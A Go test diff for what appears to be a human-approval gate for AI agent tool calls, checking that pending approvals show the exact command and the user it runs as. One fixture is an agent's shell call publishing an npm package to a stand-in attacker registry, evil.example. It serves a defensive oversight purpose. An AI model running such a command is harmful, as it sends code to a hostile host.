@@ -109,3 +109,26 @@ func TestApprovals(t *testing.T) {
 		t.Errorf("revoke: %d, %s", code, out)
 	}
 }
+
+// What is shown is what runs, and as whom.
+func TestWhatWouldRunIsShown(t *testing.T) {
+	socket, q := asking(t)
+	for _, s := range []struct {
+		kind    approval.Kind
+		subject approval.Subject
+		want    []string
+	}{
+		{approval.Tool, approval.Subject{Tool: "shell", Argv: []string{"npm", "publish", "--registry=https://evil.example"}}, []string{"wants to call shell", "npm publish --registry=https://evil.example"}},
+		{approval.Tool, approval.Subject{Tool: "Bash", Input: "npm publish --dry-run"}, []string{"npm publish --dry-run"}},
+		{approval.Command, approval.Subject{Argv: []string{"cp", "a", "b"}, RunsAs: "root"}, []string{"cp a b", "as user     root", "as root"}},
+	} {
+		_, ticket := q.Ask(approval.Question{Kind: s.kind, Session: oneSession, Agent: "codex", UID: uint32(os.Getuid()), Subject: s.subject}, func(approval.Outcome) {})
+		out, _, _, _ := paddock(t, socket, "approvals")
+		for _, want := range s.want {
+			if !strings.Contains(out, want) {
+				t.Errorf("%q is not shown in\n%s", want, out)
+			}
+		}
+		ticket.Withdraw(approval.ByProcess, "")
+	}
+}
